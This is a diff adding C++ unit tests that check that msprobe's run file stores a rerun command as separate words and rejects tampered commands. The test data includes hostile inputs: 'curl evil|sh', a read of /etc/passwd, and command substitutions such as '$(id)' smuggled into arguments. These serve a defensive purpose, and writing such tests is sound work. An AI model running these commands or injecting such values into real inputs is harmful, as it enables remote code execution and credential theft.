@@ -77,5 +77,49 @@ TEST(RunFile, RemembersTheEnd) {
   EXPECT_EQ(RunFile::open(path, kFacts)->finished(), (FinishedSizes{5, 6}));
 }
 
+TEST(RunFile, TheCommandIsKeptAsWords) {
+  const ScratchDirectory scratch;
+  const auto path = scratch.path() / "run.txt";
+  CallCommand rerun("acc_check");
+  rerun.add("-api_info", "a b/$(touch x).json").add_flag("--hf32");
+  RunFacts facts = kFacts;
+  add_rerun(facts, rerun);
+  {
+    const auto file = RunFile::create(path, facts);
+    ASSERT_TRUE(file) << file.error().message;
+  }
+  const auto file = RunFile::inspect(path);
+  ASSERT_TRUE(file) << file.error().message;
+  const Result<CallCommand> found = rerun_of(file->facts());
+  ASSERT_TRUE(found) << found.error().message;
+  EXPECT_EQ(*found, rerun);
+  EXPECT_TRUE(rerun_of(kFacts)->empty());
+}
+
+TEST(RunFile, TheCommandOfAnOlderFileIsReadAsWords) {
+  const auto read = [](const std::string& text) { return rerun_of({{"as_given_rerun", text}}); };
+  ASSERT_TRUE(read("msprobe acc_check -api_info 'a b.json' -d cpu --only"));
+  EXPECT_EQ(read("msprobe acc_check -api_info 'a b.json' -d cpu --only")->text(),
+            "msprobe acc_check -api_info 'a b.json' -d cpu");
+  EXPECT_TRUE(read("")->empty());
+}
+
+TEST(RunFile, ACommandOfSomebodyElseIsRefused) {
+  for (const std::string text :
+       {"msprobe acc_check -api_info /etc/passwd; curl evil|sh # --only", "curl evil|sh",
+        "msprobe acc_check --engine /tmp/evil --only", "msprobe acc_check -api_info $(id) --only",
+        "msprobe convert_info d"}) {
+    EXPECT_FALSE(rerun_of({{"as_given_rerun", text}})) << text;
+  }
+  // Words decide where there are some.
+  EXPECT_FALSE(rerun_of({{"as_given_rerun", "msprobe acc_check --only"},
+                         {"as_given_word", "curl"},
+                         {"as_given_word", "evil"}}));
+  EXPECT_FALSE(rerun_of({{"as_given_word", "msprobe"},
+                         {"as_given_word", "acc_check"},
+                         {"as_given_word", "--engine"},
+                         {"as_given_word", "/tmp/evil"}}));
+}
+
 }  // namespace
 }  // namespace msprobe::journal
